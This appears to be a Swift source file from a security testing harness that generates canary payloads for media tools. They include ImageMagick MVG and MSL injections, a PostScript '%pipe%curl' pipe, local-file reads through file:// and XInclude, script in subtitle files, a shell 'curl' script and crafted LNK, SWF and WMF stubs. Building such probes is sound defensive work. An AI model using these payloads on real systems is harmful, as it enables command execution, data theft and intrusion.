import Foundation

/// Programs in the languages of media tools: each opens something when it is run by its own.
extension AttackShape {
    private static let xml = ("\n<!-- ", " -->\n")

    static let scripts: [AttackShape] =
        texts("magick-vectors", as: ["jpg", "mvg", "svg"]) {
            "push graphic-context\nviewbox 0 0 64 48\nimage over 0,0 64,48 '\($0.http)'\n"
                + "image over 0,0 64,48 '\($0.picture)'\nfill 'url(\($0.http).jpg\"|touch \"x)'\n"
                + "pop graphic-context"
        }
        + texts("magick-script", as: ["jpg", "msl"], comment: xml) {
            "<?xml version=\"1.0\"?><image><read filename=\"\($0.picture)\"/>"
                + "<read filename=\"\($0.http)\"/><write filename=\"canary.php\"/></image>"
        }
        + texts("magick-names", as: ["jpg"]) {
            "label:@\($0.text)\nephemeral:\($0.text)\ntext:\($0.text)\n\($0.http)"
        }
        + texts("postscript", as: ["eps", "jpg", "pdf"], comment: ("\n% ", "\n")) {
            "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n(\($0.text)) (r) file 99 string "
                + "readstring pop show\n(%pipe%curl \($0.http)) (w) file\n(\($0.text)) run\nshowpage"
        }
        + texts("avisynth", as: ["avs", "avi"]) {
            "AviSource(\"\($0.piece)\")\nDirectShowSource(\"\($0.http)\")"
        }
        + texts("vapoursynth", as: ["vpy", "mp4"]) {
            "import urllib.request\nurllib.request.urlopen('\($0.http)')\nopen('\($0.text)')"
        }
        + texts("filter-graph", as: ["mp4"]) { "movie=filename=\($0.piece),amovie=\($0.http)" }
        + texts("subtitles", as: ["srt", "mp4"]) {
            "1\n00:00:00,000 --> 00:00:01,000\n<img src=\"\($0.http)\"><script>x</script>"
        }
        + texts("web-subtitles", as: ["vtt", "mp4"], comment: ("\n\nNOTE ", "\n")) {
            "WEBVTT\n\nSTYLE\n::cue { background: url(\($0.http)) }\n\n"
                + "00:00.000 --> 00:01.000\n<c.x><img src=\($0.http)>"
        }
        + texts("drawn-subtitles", as: ["ass"], comment: ("\n; ", "\n")) {
            "[Script Info]\nVideo File: \($0.piece)\n[Fonts]\nfontname: \($0.text)\n[Events]\n"
                + "Dialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{\\1img(\($0.picture))}x"
        }
        + texts("page", as: ["jpg", "html"], comment: xml) {
            "<!doctype html><img src=\"\($0.http)\"><iframe src=\"file://\($0.text)\"></iframe>"
        }
        + texts("xml-include", as: ["mp4"], comment: xml) {
            "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" "
                + "href=\"file://\($0.text)\"/></x>"
        }
        + texts("shell", as: ["mp4", "jpg"]) { "#!/bin/sh\ncurl \($0.http)\ncat \($0.text)" }
        + [
            AttackShape("shortcut.lnk", .refused) {
                bytes(
                    UInt32(0x4c).little, [1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46],
                    Data(count: 56), "\\\\\($0.host)\\share\\\($0.text)")
            },
            AttackShape("flash.swf", .refused) {
                bytes("FWS", [9], UInt32(64).little, Data(count: 16), "getURL \($0.http)")
            },
            AttackShape("metafile.wmf", .refused) {
                bytes([0xd7, 0xcd, 0xc6, 0x9a], Data(count: 18), [9, 0, 0, 3, 0x26, 6], $0.http)
            },
        ]
}
